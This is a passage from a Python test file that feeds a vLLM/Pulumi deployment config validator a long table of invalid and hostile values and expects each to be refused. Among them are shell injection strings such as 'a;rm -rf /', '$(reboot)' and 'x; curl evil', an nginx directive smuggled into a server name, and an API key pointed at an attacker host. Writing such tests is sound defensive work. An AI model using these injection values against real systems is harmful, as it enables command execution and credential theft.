"""A table of named bad configs, hostile and mistaken: each must be refused naming its key, with a fix.

Every case mutates a committed stack (value level, or the file's text for YAML-level cases) and asserts the
config is refused before anything is planned, that one problem names the expected key, that every problem
carries a fix, and that no secret plaintext appears in the report.
"""

from __future__ import annotations

import copy
import math
from pathlib import Path
from typing import Any

import pytest

from stacks.model.errors import ConfigError
from stacks.model.field_types import SECRET
from stacks.model.loader import parse_config, read_stack_values, set_path
from stacks.model.stack_file import parse_stack_text
from stacks.planner.plan import build_plan
from stacks.planner.proxy import CHECK_PATHS

ROOT = Path(__file__).resolve().parent.parent
TEXT = {s: (ROOT / f"Pulumi.{s}.yaml").read_text() for s in ("prod", "h20")}
VALUES = {s: read_stack_values(s) for s in ("prod", "h20")}
PLAIN_SECRET = "sk-THIS-MUST-NEVER-PRINT-123456"
DEL = object()

# (id, stack, key path -> value (DEL deletes), expected problem key)
PROXIED: dict[str, Any] = {"api.proxy.enabled": True, "serving.host": "127.0.0.1", "api_key": SECRET,
                           "proxy_keys": {"team-a": SECRET}, "tls_certificate": SECRET, "tls_private_key": SECRET}
"""The front door on, with its secrets: the base of the allowlist cases."""
OBS: dict[str, Any] = {"observability.enabled": True, "grafana_admin_password": SECRET}
"""Monitoring on, with its admin password."""

VALUE_CASES: list[tuple[str, str, dict[str, Any], str]] = [
    # numbers: types, ranges, non-finite
    ("tensor-float", "prod", {"parallelism.tensor": 8.5}, "parallelism.tensor"),
    ("tensor-string", "prod", {"parallelism.tensor": "8"}, "parallelism.tensor"),
    ("tensor-bool", "prod", {"parallelism.tensor": True}, "parallelism.tensor"),
    ("tensor-zero", "prod", {"parallelism.tensor": 0}, "parallelism.tensor"),
    ("tensor-negative", "prod", {"parallelism.tensor": -8}, "parallelism.tensor"),
    ("tensor-huge", "prod", {"parallelism.tensor": 10**30}, "parallelism.tensor"),
    ("tensor-list", "prod", {"parallelism.tensor": [8]}, "parallelism.tensor"),
    ("tensor-null", "prod", {"parallelism.tensor": None}, "parallelism.tensor"),
    ("pipeline-huge", "prod", {"parallelism.pipeline": 65}, "parallelism.pipeline"),
    ("data-zero", "prod", {"parallelism.data": 0}, "parallelism.data"),
    ("data-huge", "prod", {"parallelism.data": 100000}, "parallelism.data"),
    ("weights-inf", "prod", {"model.weights_gb": math.inf}, "model.weights_gb"),
    ("weights-nan", "prod", {"model.weights_gb": math.nan}, "model.weights_gb"),
    ("weights-negative", "prod", {"model.weights_gb": -1}, "model.weights_gb"),
    ("weights-huge", "prod", {"model.weights_gb": 1e12}, "model.weights_gb"),
    ("load-rate-denormal", "prod", {"model.load_gb_per_s": 1e-320}, "model.load_gb_per_s"),
    ("load-rate-zero", "prod", {"model.load_gb_per_s": 0}, "model.load_gb_per_s"),
    ("load-rate-string", "prod", {"model.load_gb_per_s": "fast"}, "model.load_gb_per_s"),
    ("gpu-count-zero", "prod", {"nodes.0.gpus.count": 0}, "nodes.0.gpus.count"),
    ("gpu-count-huge", "prod", {"nodes.1.gpus.count": 1000}, "nodes.1.gpus.count"),
    ("gpu-memory-nan", "prod", {"nodes.0.gpus.memory_gb": math.nan}, "nodes.0.gpus.memory_gb"),
    ("gpu-memory-zero", "prod", {"nodes.0.gpus.memory_gb": 0}, "nodes.0.gpus.memory_gb"),
    ("gid-negative", "h20", {"nodes.0.gid_index": -1}, "nodes.0.gid_index"),
    ("gid-huge", "h20", {"nodes.0.gid_index": 256}, "nodes.0.gid_index"),
    ("dp-local-zero", "prod", {"nodes.0.data_parallel_local": 0}, "nodes.0.data_parallel_local"),
    ("max-model-len-zero", "prod", {"serving.max_model_len": 0}, "serving.max_model_len"),
    ("max-model-len-huge", "prod", {"serving.max_model_len": 10**9}, "serving.max_model_len"),
    ("max-model-len-above-model", "prod", {"serving.max_model_len": 2_000_000}, "serving.max_model_len"),
    ("batched-tokens-negative", "prod", {"serving.max_num_batched_tokens": -1}, "serving.max_num_batched_tokens"),
    ("max-seqs-huge", "prod", {"serving.max_num_seqs": 10**7}, "serving.max_num_seqs"),
    ("gpu-util-zero", "prod", {"serving.gpu_memory_utilization": 0}, "serving.gpu_memory_utilization"),
    ("gpu-util-above-one", "prod", {"serving.gpu_memory_utilization": 1.5}, "serving.gpu_memory_utilization"),
    ("gpu-util-inf", "prod", {"serving.gpu_memory_utilization": math.inf}, "serving.gpu_memory_utilization"),
    ("gpu-util-percent-string", "prod", {"serving.gpu_memory_utilization": "95%"}, "serving.gpu_memory_utilization"),
    ("ready-timeout-short", "prod", {"serving.engine_ready_timeout_s": 10}, "serving.engine_ready_timeout_s"),
    ("ready-timeout-huge", "prod", {"serving.engine_ready_timeout_s": 10**9}, "serving.engine_ready_timeout_s"),
    ("ready-timeout-string", "prod", {"serving.engine_ready_timeout_s": "1h"}, "serving.engine_ready_timeout_s"),
    ("spec-tokens-zero", "prod", {"speculative.num_speculative_tokens": 0}, "speculative.num_speculative_tokens"),
    ("spec-tokens-huge", "prod", {"speculative.num_speculative_tokens": 1000}, "speculative.num_speculative_tokens"),
    ("shm-tiny", "h20", {"container.shm_size_mb": 1}, "container.shm_size_mb"),
    ("shm-huge", "h20", {"container.shm_size_mb": 10**9}, "container.shm_size_mb"),
    ("ray-timeout-zero", "h20", {"ray.cluster_ready_timeout_s": 0}, "ray.cluster_ready_timeout_s"),
    ("health-timeout-huge", "prod", {"api.health_timeout_s": 10**8}, "api.health_timeout_s"),
    ("progress-zero", "prod", {"api.progress_interval_s": 0}, "api.progress_interval_s"),
    ("request-timeout-negative", "prod", {"api.request_timeout_s": -5}, "api.request_timeout_s"),
    ("proxy-body-zero", "prod", {"api.proxy.max_body_mb": 0}, "api.proxy.max_body_mb"),
    ("proxy-read-timeout-short", "prod", {"api.proxy.read_timeout_s": 1}, "api.proxy.read_timeout_s"),
    ("proxy-rpm-zero", "prod", {"api.proxy.limits.requests_per_minute_per_key": 0},
     "api.proxy.limits.requests_per_minute_per_key"),
    ("proxy-burst-negative", "prod", {"api.proxy.limits.burst": -1}, "api.proxy.limits.burst"),
    ("ulimit-soft-above-hard", "prod", {"container.ulimits.stack": [10, 5]}, "container.ulimits.stack"),
    ("ulimit-three-values", "prod", {"container.ulimits.stack": [1, 2, 3]}, "container.ulimits.stack"),
    ("ulimit-unknown-name", "prod", {"container.ulimits.bogus": [1, 1]}, "container.ulimits.bogus"),
    ("ulimit-string", "prod", {"container.ulimits.memlock": "unlimited"}, "container.ulimits.memlock"),
    # ports
    ("port-zero", "prod", {"serving.port": 0}, "serving.port"),
    ("port-too-high", "prod", {"serving.port": 70000}, "serving.port"),
    ("port-string", "prod", {"serving.port": "8030"}, "serving.port"),
    ("port-float", "prod", {"serving.port": 8030.5}, "serving.port"),
    ("port-is-sshd", "prod", {"serving.port": 22}, "serving.port"),
    ("master-port-is-serving", "h20", {"parallelism.backend": "mp", "parallelism.master_port": 8000},
     "parallelism.master_port"),
    ("master-port-zero", "prod", {"parallelism.master_port": 0}, "parallelism.master_port"),
    ("rpc-port-is-serving", "prod", {"parallelism.data_parallel_rpc_port": 8030}, "parallelism.data_parallel_rpc_port"),
    ("ssh-port-zero", "prod", {"nodes.0.ssh.port": 0}, "nodes.0.ssh.port"),
    ("ssh-port-is-serving", "prod", {"nodes.0.ssh.port": 8030}, "serving.port"),
    ("ray-gcs-is-serving", "h20", {"ray.gcs_port": 8000}, "ray.gcs_port"),
    ("ray-dashboard-is-client", "h20", {"ray.dashboard_port": 10001}, "ray.client_port"),
    ("proxy-port-is-serving", "prod", {"api.proxy.enabled": True, "api.proxy.port": 8030,
                                       "serving.host": "127.0.0.1"}, "api.proxy.port"),
    # observability
    ("obs-enabled-string", "prod", {"observability.enabled": "yes"}, "observability.enabled"),
    ("obs-no-password", "prod", {"observability.enabled": True}, "grafana_admin_password"),
    ("obs-password-plain", "prod", {"grafana_admin_password": "admin"}, "grafana_admin_password"),
    ("obs-webhook-plain", "prod", {"alert_webhook_url": "https://hooks.example.com/x"}, "alert_webhook_url"),
    ("obs-unknown-node", "prod", {**OBS, "observability.node": "node9"}, "observability.node"),
    ("obs-node-bad-name", "prod", {**OBS, "observability.node": "Node 1"}, "observability.node"),
    ("obs-loopback-vllm-elsewhere", "prod", {**OBS, "serving.host": "127.0.0.1", "observability.node": "node2"},
     "observability.node"),
    ("obs-port-zero", "prod", {**OBS, "observability.ports.grafana": 0}, "observability.ports.grafana"),
    ("obs-port-huge", "prod", {**OBS, "observability.ports.prometheus": 70000}, "observability.ports.prometheus"),
    ("obs-port-is-serving", "prod", {**OBS, "observability.ports.grafana": 8030}, "observability.ports.grafana"),
    ("obs-ports-clash", "prod", {**OBS, "observability.ports.dcgm_exporter": 9100},
     "observability.ports.dcgm_exporter"),
    ("obs-retention-zero", "prod", {**OBS, "observability.retention_days": 0}, "observability.retention_days"),
    ("obs-retention-huge", "prod", {**OBS, "observability.retention_gb": 10**9}, "observability.retention_gb"),
    ("obs-scrape-fast", "prod", {**OBS, "observability.scrape_interval_s": 1}, "observability.scrape_interval_s"),
    ("obs-kv-above-one", "prod", {**OBS, "observability.kv_cache_usage": 1.5}, "observability.kv_cache_usage"),
    ("obs-kv-nan", "prod", {**OBS, "observability.kv_cache_usage": math.nan}, "observability.kv_cache_usage"),
    ("obs-ttft-zero", "prod", {**OBS, "observability.ttft_p99_s": 0}, "observability.ttft_p99_s"),
    ("obs-golden-zero", "prod", {**OBS, "observability.golden_failures": 0}, "observability.golden_failures"),
    ("obs-data-dir-relative", "prod", {**OBS, "observability.data_dir": "data"}, "observability.data_dir"),
    ("obs-watch-address-cidr", "prod", {**OBS, "observability.watch_address": "10.0.0.0/8"},
     "observability.watch_address"),
    ("obs-watch-address-public", "prod", {**OBS, "observability.watch_address": "8.8.8.8"},
     "observability.watch_address"),
    ("obs-supervisor-address-public-v6", "prod", {**OBS, "observability.supervisor_address": "2001:4860::8888"},
     "observability.supervisor_address"),
    ("obs-supervisor-address-public-watch-private", "h20", {
        **OBS, "observability.watch_address": "10.0.0.9", "observability.supervisor_address": "203.0.114.9"},
     "observability.supervisor_address"),
    ("obs-public-management-firewall-off", "prod", {
        **OBS, "firewall.enabled": False, "fabric.private_networks": ["1.1.1.0/24", "1.1.2.0/24"]},
     "firewall.enabled"),
    ("obs-supervisor-port-zero", "prod", {**OBS, "observability.ports.supervisor": 0},
     "observability.ports.supervisor"),
    ("obs-supervisor-port-huge", "prod", {**OBS, "observability.ports.supervisor": 65536},
     "observability.ports.supervisor"),
    ("obs-supervisor-port-string", "prod", {**OBS, "observability.ports.supervisor": "9465; reboot"},
     "observability.ports.supervisor"),
    ("obs-supervisor-port-is-watch", "prod", {**OBS, "observability.ports.supervisor": 9464},
     "observability.ports.supervisor"),
    ("obs-supervisor-port-is-watch-off-node", "prod", {
        **OBS, "observability.ports.supervisor": 9464, "observability.watch_address": "10.30.8.250"},
     "observability.ports.supervisor"),
    ("obs-supervisor-port-is-serving", "prod", {**OBS, "observability.ports.supervisor": 8030},
     "observability.ports.supervisor"),
    ("obs-supervisor-address-bracketed", "prod", {**OBS, "observability.supervisor_address": "[fd00::5]"},
     "observability.supervisor_address"),
    ("obs-supervisor-address-wildcard", "prod", {**OBS, "observability.supervisor_address": "0.0.0.0"},
     "observability.supervisor_address"),
    ("obs-image-no-tag", "prod", {**OBS, "observability.images.grafana": "grafana/grafana"},
     "observability.images.grafana"),
    ("obs-image-bad-digest", "prod", {**OBS, "observability.images.grafana": "grafana/grafana:11.6.0@sha256:abc"},
     "observability.images.grafana"),
    ("obs-image-mapping", "prod", {**OBS, "observability.images.grafana": {"repository": "grafana/grafana"}},
     "observability.images.grafana"),
    ("obs-image-upper-path", "prod", {**OBS, "observability.images.prometheus": "prom/Prometheus:v2"},
     "observability.images.prometheus"),
    ("obs-unknown-key", "prod", {**OBS, "observability.grafana_port": 3000}, "observability.grafana_port"),
    # golden set, watch unit, collective check (issue 13 wiring)
    ("golden-empty", "prod", {"api.smoke.golden": []}, "api.smoke.golden"),
    ("golden-seventeen", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": "1"}] * 17}, "api.smoke.golden"),
    ("golden-not-list", "prod", {"api.smoke.golden": {"prompt": "p", "expect": "1"}}, "api.smoke.golden"),
    ("golden-nested-repeat", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": "(a+)+"}]},
     "api.smoke.golden.0.expect"),
    ("golden-backreference", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": r"(3)\1"}]},
     "api.smoke.golden.0.expect"),
    ("golden-not-a-regex", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": "[323"}]},
     "api.smoke.golden.0.expect"),
    ("golden-three-stars", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": ".*3.*2.*"}]},
     "api.smoke.golden.0.expect"),
    ("golden-expect-int", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": 323}]}, "api.smoke.golden.0.expect"),
    ("golden-expect-long", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": "3" * 257}]},
     "api.smoke.golden.0.expect"),
    ("golden-prompt-nul", "prod", {"api.smoke.golden": [{"prompt": "a\x00b", "expect": "1"}]},
     "api.smoke.golden.0.prompt"),
    ("golden-prompt-blank", "prod", {"api.smoke.golden": [{"prompt": "  \n ", "expect": "1"}]},
     "api.smoke.golden.0.prompt"),
    ("golden-prompt-huge", "prod", {"api.smoke.golden": [{"prompt": "x" * 4001, "expect": "1"}]},
     "api.smoke.golden.0.prompt"),
    ("golden-unknown-key", "prod", {"api.smoke.golden": [{"prompt": "p", "expect": "1", "temperature": 0}]},
     "api.smoke.golden.0.temperature"),
    ("golden-missing-expect", "prod", {"api.smoke.golden": [{"prompt": "p"}]}, "api.smoke.golden.0.expect"),
    ("smoke-old-prompt-key", "prod", {"api.smoke.prompt": "17*19?"}, "api.smoke"),
    ("watch-interval-short", "prod", {"api.watch_interval_s": 5}, "api.watch_interval_s"),
    ("watch-interval-float", "prod", {"api.watch_interval_s": 60.5}, "api.watch_interval_s"),
    ("min-busbw-zero", "prod", {"fabric.min_busbw_gbps": 0}, "fabric.min_busbw_gbps"),
    ("min-busbw-negative", "prod", {"fabric.min_busbw_gbps": -50}, "fabric.min_busbw_gbps"),
    ("min-busbw-huge", "prod", {"fabric.min_busbw_gbps": 1e6}, "fabric.min_busbw_gbps"),
    ("min-busbw-tiny", "prod", {"fabric.min_busbw_gbps": 1e-300}, "fabric.min_busbw_gbps"),
    ("min-busbw-below-range", "prod", {"fabric.min_busbw_gbps": 0.0099}, "fabric.min_busbw_gbps"),
    ("min-busbw-inf", "prod", {"fabric.min_busbw_gbps": math.inf}, "fabric.min_busbw_gbps"),
    ("min-busbw-nan", "prod", {"fabric.min_busbw_gbps": math.nan}, "fabric.min_busbw_gbps"),
    ("min-busbw-string", "prod", {"fabric.min_busbw_gbps": "400G"}, "fabric.min_busbw_gbps"),
    ("collective-port-zero", "prod", {"fabric.collective_port": 0}, "fabric.collective_port"),
    ("collective-port-is-serving", "prod", {"fabric.collective_port": 8030}, "fabric.collective_port"),
    ("collective-port-is-rpc", "prod", {"fabric.collective_port": 13399}, "fabric.collective_port"),
    ("collective-port-in-ray-workers", "h20", {"fabric.collective_port": 12000}, "fabric.collective_port"),
    # model.source and its secrets (issue 14 wiring)
    ("source-not-s3", "prod", {"model.source": "https://bucket.example/ds"}, "model.source.url"),
    ("source-bucket-only", "prod", {"model.source": "s3://team-weights"}, "model.source.url"),
    ("source-prefix-dotdot", "prod", {"model.source": "s3://team-weights/../etc"}, "model.source.url"),
    ("source-bad-bucket", "prod", {"model.source": "s3://Team Weights/ds"}, "model.source.url"),
    ("source-newline", "prod", {"model.source": "s3://team-weights/ds\n--delete"}, "model.source.url"),
    ("source-url-int", "prod", {"model.source": {"url": 5}}, "model.source.url"),
    ("source-endpoint-ftp", "prod", {"model.source": {"url": "s3://team-weights/ds",
                                                      "endpoint_url": "ftp://minio.internal:21"}},
     "model.source.endpoint_url"),
    ("source-endpoint-credentials", "prod", {"model.source": {"url": "s3://team-weights/ds",
                                                              "endpoint_url": f"https://key:{PLAIN_SECRET}@minio:9000"}},
     "model.source.endpoint_url"),
    ("source-endpoint-query", "prod", {"model.source": {"url": "s3://team-weights/ds",
                                                        "endpoint_url": "https://minio:9000/?x=1"}},
     "model.source.endpoint_url"),
    ("source-presigned", "prod", {"model.source": {"url": f"s3://team-weights/ds?X-Amz-Signature={PLAIN_SECRET}"}},
     "model.source.url"),
    ("source-string-presigned", "prod", {"model.source": f"s3://team-weights/ds?X-Amz-Credential={PLAIN_SECRET}"},
     "model.source.url"),
    ("source-fragment", "prod", {"model.source": f"s3://team-weights/ds#{PLAIN_SECRET}"}, "model.source.url"),
    ("source-ampersand", "prod", {"model.source": f"s3://team-weights/ds&sig={PLAIN_SECRET}"}, "model.source.url"),
    ("source-presigned-https", "prod", {"model.source": f"https://b.s3.amazonaws.com/k?X-Amz-Signature={PLAIN_SECRET}"},
     "model.source.url"),
    ("source-bucket-slash", "prod", {"model.source": "s3://team-weights//"}, "model.source.url"),
    ("source-into-system-dir", "prod", {"model.host_dir": "/", "model.path": "etc",
                                        "model.source": "s3://team-weights/ds"}, "model.path"),
    ("source-into-kernel-fs", "prod", {"model.host_dir": "/proc", "model.path": "models",
                                       "model.source": "s3://team-weights/ds"}, "model.path"),
    ("source-endpoint-path", "prod", {"model.source": {"url": "s3://team-weights/ds",
                                                       "endpoint_url": f"https://minio:9000/{PLAIN_SECRET}"}},
     "model.source.endpoint_url"),
    ("source-endpoint-fragment", "prod", {"model.source": {"url": "s3://team-weights/ds",
                                                           "endpoint_url": f"https://minio:9000#{PLAIN_SECRET}"}},
     "model.source.endpoint_url"),
    ("source-endpoint-path-and-userinfo", "prod", {"model.source": {
        "url": "s3://team-weights/ds", "endpoint_url": f"https://k:{PLAIN_SECRET}@minio:9000/{PLAIN_SECRET}"}},
     "model.source.endpoint_url"),
    ("source-region-upper", "prod", {"model.source": {"url": "s3://team-weights/ds", "region": "US-EAST-1"}},
     "model.source.region"),
    ("source-workers-zero", "prod", {"model.source": {"url": "s3://team-weights/ds", "workers": 0}},
     "model.source.workers"),
    ("source-workers-huge", "prod", {"model.source": {"url": "s3://team-weights/ds", "workers": 65}},
     "model.source.workers"),
    ("source-part-size-huge", "prod", {"model.source": {"url": "s3://team-weights/ds", "part_size_mb": 10000}},
     "model.source.part_size_mb"),
    ("source-timeout-short", "prod", {"model.source": {"url": "s3://team-weights/ds", "timeout_s": 60}},
     "model.source.timeout_s"),
    ("source-delete-string", "prod", {"model.source": {"url": "s3://team-weights/ds", "delete": "yes"}},
     "model.source.delete"),
    ("source-unknown-key", "prod", {"model.source": {"url": "s3://team-weights/ds", "access_key": PLAIN_SECRET}},
     "model.source.access_key"),
    ("plain-s3-key-id", "prod", {"s3_access_key_id": "AKIAPLAINTEXT"}, "s3_access_key_id"),
    ("plain-s3-secret", "prod", {"s3_secret_access_key": PLAIN_SECRET}, "s3_secret_access_key"),
    ("s3-key-without-secret", "prod", {"model.source": "s3://team-weights/ds", "s3_access_key_id": SECRET},
     "s3_secret_access_key"),
    ("s3-token-alone", "prod", {"model.source": "s3://team-weights/ds", "s3_session_token": SECRET},
     "s3_session_token"),
    # hosts, addresses, networks
    ("ssh-host-shell", "prod", {"nodes.0.ssh.host": "a;rm -rf /"}, "nodes.0.ssh.host"),
    ("ssh-host-subshell", "prod", {"nodes.0.ssh.host": "$(reboot)"}, "nodes.0.ssh.host"),
    ("ssh-host-newline", "prod", {"nodes.0.ssh.host": "a\nb"}, "nodes.0.ssh.host"),
    ("ssh-host-empty", "prod", {"nodes.0.ssh.host": ""}, "nodes.0.ssh.host"),
    ("ssh-host-url", "prod", {"nodes.0.ssh.host": "ssh://10.30.8.1"}, "nodes.0.ssh.host"),
    ("ssh-host-mistyped-ipv4", "prod", {"nodes.0.ssh.host": "10.30.8.1l"}, "nodes.0.ssh.host"),
    ("ssh-host-user-at", "prod", {"nodes.0.ssh.host": "root@10.30.8.1"}, "nodes.0.ssh.host"),
    ("ssh-host-bad-ipv4", "prod", {"nodes.0.ssh.host": "10.30.8"}, "nodes.0.ssh.host"),
    ("ssh-host-unicode", "prod", {"nodes.0.ssh.host": "nöde1.example"}, "nodes.0.ssh.host"),
    ("ssh-host-duplicate", "prod", {"nodes.1.ssh.host": "10.30.8.1"}, "nodes.1.ssh.host"),
    ("ssh-user-shell", "prod", {"nodes.0.ssh.user": "root;id"}, "nodes.0.ssh.user"),
    ("ssh-user-at", "prod", {"nodes.0.ssh.user": "a@b"}, "nodes.0.ssh.user"),
    ("ssh-user-empty", "prod", {"nodes.0.ssh.user": ""}, "nodes.0.ssh.user"),
    ("mgmt-ip-name", "prod", {"nodes.0.management_ip": "node1"}, "nodes.0.management_ip"),
    ("mgmt-ip-unspecified", "prod", {"nodes.0.management_ip": "0.0.0.0"}, "nodes.0.management_ip"),
    ("mgmt-ip-leading-zero", "prod", {"nodes.0.management_ip": "010.30.8.1"}, "nodes.0.management_ip"),
    ("mgmt-ip-zone", "prod", {"nodes.0.management_ip": "fe80::1%eth0"}, "nodes.0.management_ip"),
    ("mgmt-ip-bracketed", "prod", {"nodes.0.management_ip": "[fd00::1]"}, "nodes.0.management_ip"),
    ("mgmt-ip-cidr", "prod", {"nodes.0.management_ip": "10.30.8.1/24"}, "nodes.0.management_ip"),
    ("mgmt-ip-duplicate", "prod", {"nodes.1.management_ip": "10.30.8.1"}, "nodes.1.management_ip"),
    ("mgmt-ip-number", "prod", {"nodes.0.management_ip": 167772161}, "nodes.0.management_ip"),
    ("data-ip-bad", "prod", {"nodes.0.data_ips": ["1.1.1.300", "1.1.2.2"]}, "nodes.0.data_ips.0"),
    ("data-ip-twice-in-node", "prod", {"nodes.0.data_ips": ["1.1.1.2", "1.1.1.2"]}, "nodes.0.data_ips"),
    ("data-ip-other-node", "prod", {"nodes.1.data_ips": ["1.1.1.2", "1.1.2.1"]}, "nodes.1.data_ips.0"),
    ("data-ips-not-list", "prod", {"nodes.0.data_ips": "1.1.1.2"}, "nodes.0.data_ips"),
    ("serving-host-localhost", "prod", {"serving.host": "localhost"}, "serving.host"),
    ("serving-host-name", "prod", {"serving.host": "api.example.com"}, "serving.host"),
    ("serving-host-empty", "prod", {"serving.host": ""}, "serving.host"),
    ("public-host-shell", "prod", {"api.public_host": "x; curl evil"}, "api.public_host"),
    ("public-host-url", "prod", {"api.public_host": "http://evil.example/"}, "api.public_host"),
    ("public-host-with-port", "prod", {"api.public_host": "10.30.8.1:8030"}, "api.public_host"),
    ("proxy-bind-name", "prod", {"api.proxy.bind": "any"}, "api.proxy.bind"),
    ("server-name-injection", "prod", {"api.proxy.server_name":
                                       "llm.example; location ~ ^/(collective_rpc)$ { proxy_pass http://vllm; }"},
     "api.proxy.server_name"),
    ("server-name-space", "prod", {"api.proxy.server_name": "a b"}, "api.proxy.server_name"),
    ("server-name-quote", "prod", {"api.proxy.server_name": "a'b"}, "api.proxy.server_name"),
    ("private-network-bad", "prod", {"fabric.private_networks": ["10.0.0.0/33"]}, "fabric.private_networks.0"),
    ("private-network-host-bits", "prod", {"fabric.private_networks": ["10.30.8.1/24"]}, "fabric.private_networks.0"),
    ("private-network-name", "prod", {"fabric.private_networks": ["lan"]}, "fabric.private_networks.0"),
    ("private-networks-string", "prod", {"fabric.private_networks": "10.0.0.0/8"}, "fabric.private_networks"),
    # exposure (stacks/planner/exposure.py): one rule for plan and policy
    ("private-network-default-route", "prod", {"fabric.private_networks": ["0.0.0.0/0"],
                                               "fabric.public_private_networks": []}, "fabric.private_networks.0"),
    ("private-network-default-route-v6", "h20", {"fabric.private_networks": ["192.0.2.0/24", "::/0"]},
     "fabric.private_networks.1"),
    ("private-network-default-route-acknowledged", "prod", {"fabric.private_networks": ["0.0.0.0/0"],
                                                            "fabric.public_private_networks": ["0.0.0.0/0"]},
     "fabric.private_networks.0"),
    ("private-network-split-default-route", "h20", {"fabric.private_networks": ["0.0.0.0/1", "128.0.0.0/1"],
                                                    "fabric.public_private_networks": ["0.0.0.0/1", "128.0.0.0/1"]},
     "fabric.private_networks"),
    ("private-network-public-unacknowledged", "prod", {"fabric.public_private_networks": ["1.1.1.0/24"]},
     "fabric.private_networks.1"),
    ("private-network-acknowledged-not-declared", "h20", {"fabric.public_private_networks": ["8.8.8.0/24"]},
     "fabric.public_private_networks.0"),
    ("private-network-acknowledged-not-public", "h20", {"fabric.public_private_networks": ["192.0.2.0/24"]},
     "fabric.public_private_networks.0"),
    ("vllm-public-api-sources-anywhere", "prod", {"firewall.api_sources": ["0.0.0.0/0"]}, "serving.host"),
    ("vllm-public-with-key", "prod", {"firewall.api_sources": ["::/0", "10.30.8.0/24"], "api_key": SECRET},
     "serving.host"),
    ("vllm-public-firewall-off", "h20", {"firewall.enabled": False}, "serving.host"),
    ("vllm-public-bind", "prod", {"serving.host": "8.8.8.8", "firewall.enabled": False}, "serving.host"),
    # the API checks send keys only to the stack's own endpoint, and wait only where vLLM listens
    ("public-host-foreign-with-key", "prod", {"api.public_host": "api.attacker.example", "api_key": SECRET},
     "api.public_host"),
    ("server-name-plain-http-foreign", "prod", {"api.proxy.enabled": True, "api.proxy.tls": False,
                                                "api.proxy.server_name": "llm.example.com",
                                                "serving.host": "127.0.0.1", "api_key": SECRET,
                                                "proxy_keys": {"team-a": SECRET}}, "api.proxy.server_name"),
    ("public-host-other-head-address", "prod", {"serving.host": "1.1.1.2", "api.public_host": "10.30.8.1"},
     "api.public_host"),
    # the proxy's allowlist
    ("allowed-path-regex", "h20", {"api.proxy.allowed_paths": ["/v1/.*"]}, "api.proxy.allowed_paths.0"),
    ("allowed-path-relative", "h20", {"api.proxy.allowed_paths": ["v1/models"]}, "api.proxy.allowed_paths.0"),
    ("allowed-path-dotdot", "h20", {"api.proxy.allowed_paths": ["/v1/../metrics"]}, "api.proxy.allowed_paths.0"),
    ("allowed-path-template", "h20", {"api.proxy.allowed_paths": ["/v1/responses/{id}"]},
     "api.proxy.allowed_paths.0"),
    ("allowed-path-encoded", "h20", {"api.proxy.allowed_paths": ["/v1/mod%65ls"]}, "api.proxy.allowed_paths.0"),
    ("allowed-path-nginx-syntax", "h20", {"api.proxy.allowed_paths": ['/v1/models"; return 200; "']},
     "api.proxy.allowed_paths.0"),
    ("allowed-path-trailing-slash", "h20", {"api.proxy.allowed_paths": ["/v1/models/"]},
     "api.proxy.allowed_paths.0"),
    ("allowed-paths-empty", "h20", {"api.proxy.allowed_paths": []}, "api.proxy.allowed_paths"),
    ("allowed-paths-twice", "h20", {"api.proxy.allowed_paths": ["/health", "/health"]}, "api.proxy.allowed_paths"),
    ("allowed-path-not-served", "h20", {"api.proxy.enabled": True, "serving.host": "127.0.0.1", "api_key": SECRET,
                                        "proxy_keys": {"team-a": SECRET}, "tls_certificate": SECRET,
                                        "tls_private_key": SECRET, "api.proxy.allowed_paths": ["/v1/embedding"]},
     "api.proxy.allowed_paths.0"),
    # the allowlist cannot open a control path unacknowledged, nor lock out the stack's own checks
    *[(f"allowed-admin-path{path.replace('/', '-')}", "h20",
       {**PROXIED, "api.proxy.allowed_paths": [*CHECK_PATHS, path]}, "api.proxy.allowed_paths.3")
      for path in ("/collective_rpc", "/update_weights", "/sleep", "/pause", "/start_profile",
                   "/v1/load_lora_adapter", "/metrics", "/docs", "/openapi.json", "/abort_requests",
                   "/inference/v1/abort_requests", "/reset_prefix_cache", "/scale_elastic_ep")],
    # prod's nightly has no routes table: the control paths of every known table count, and …/abort_requests
    *[(f"allowed-admin-path-no-table{path.replace('/', '-')}", "prod",
       {**PROXIED, "api.proxy.allowed_paths": [*CHECK_PATHS, path]}, "api.proxy.allowed_paths.3")
      for path in ("/start_weight_update", "/init_weight_transfer_engine", "/release_kv_cache_memory",
                   "/abort_requests", "/fault_tolerance/apply", "/collective_rpc")],
    ("allowed-paths-without-health", "h20", {**PROXIED, "api.proxy.allowed_paths": ["/v1/completions"]},
     "api.proxy.allowed_paths"),
    ("allowed-paths-without-chat", "h20", {**PROXIED, "api.proxy.allowed_paths": ["/health", "/v1/models"]},
     "api.proxy.allowed_paths"),
    ("admin-path-not-allowed", "h20", {**PROXIED, "api.proxy.admin_paths": ["/metrics"]}, "api.proxy.admin_paths.0"),
    ("admin-path-not-admin", "h20", {**PROXIED, "api.proxy.allowed_paths": [*CHECK_PATHS, "/v1/embeddings"],
                                     "api.proxy.admin_paths": ["/v1/embeddings"]}, "api.proxy.admin_paths.0"),
    ("ack-public-half-the-internet", "prod",
     {"fabric.private_networks": ["10.30.8.0/24", "1.1.1.0/24", "1.1.2.0/24", "0.0.0.0/1"],
      "fabric.public_private_networks": ["1.1.1.0/24", "1.1.2.0/24", "0.0.0.0/1"]}, "fabric.public_private_networks.2"),
    ("ack-public-v6-wide", "prod",
     {"fabric.private_networks": ["10.30.8.0/24", "1.1.1.0/24", "1.1.2.0/24", "2a00::/16"],
      "fabric.public_private_networks": ["1.1.1.0/24", "1.1.2.0/24", "2a00::/16"]}, "fabric.public_private_networks.2"),
    # options that set managed things behind the config (hostile re-review of issue 10)
    *[(f"extra-{name}", "prod", {"serving.extra_args": args}, "serving.extra_args.0") for name, args in [
        ("spec-method", ["--spec-method", "dspark", "--spec-tokens", "5"]), ("spec-tokens", ["--spec-tokens", "7"]),
        ("spec-model", ["--spec-model", "/m"]), ("device-ids", ["--device-ids", "4,5,6,7"]),
        ("supervisor-port", ["--data-parallel-supervisor-port", "8000"]), ("root-path", ["--root-path", "/x"]),
        ("kv-events", ["--kv-events-config", '{"enable_kv_cache_events": true, "endpoint": "tcp://*:5557"}']),
        ("kv-transfer", ["--kv-transfer-config", '{"kv_connector": "NixlConnector"}']),
